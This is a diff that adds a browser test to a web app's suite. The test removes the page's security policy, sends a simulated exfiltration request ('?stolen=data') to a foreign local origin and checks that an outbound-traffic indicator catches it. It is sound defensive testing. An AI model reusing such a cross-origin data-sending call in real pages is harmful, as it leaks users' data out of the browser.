@@ -78,6 +78,22 @@ test("a worker of the pool starts inside the engine's worker, under the same pol
   expect(await pool.evaluate(tryForbiddenThings)).toMatchObject({ evaluated: "EvalError", foreign: "blocked" });
 });
 
+test("the indicator counts what is sent when something is: with the policy taken away, one request shows", async ({ page, troubles }) => {
+  troubles.expect(/./);
+  const index = readFileSync(join(SITE, "index.html"), "utf8");
+  const site = await serveSite((path) => (path === "index.html" ? index.replace(/<meta http-equiv[^>]*>/, "") : undefined));
+  await page.goto(site.url);
+  await engineReady(page);
+  const indicator = page.getByRole("button", { name: / sent$/ });
+  await expect(indicator).toHaveText("0 bytes sent");
+  const foreign = site.origin.replace("127.0.0.1", "localhost");
+  await page.evaluate((url) => fetch(url, { mode: "no-cors" }).catch(() => undefined), `${foreign}/?stolen=data`);
+  await expect(indicator).not.toHaveText("0 bytes sent");
+  await indicator.click();
+  await expect(page.getByRole("group", { name: "What left this tab" })).toContainText("stolen=data");
+  await site.close();
+});
+
 test("without the policy the same attempts succeed, so it is the policy that stops them", async ({ page, troubles }) => {
   troubles.expect(/./);
   const index = readFileSync(join(SITE, "index.html"), "utf8");
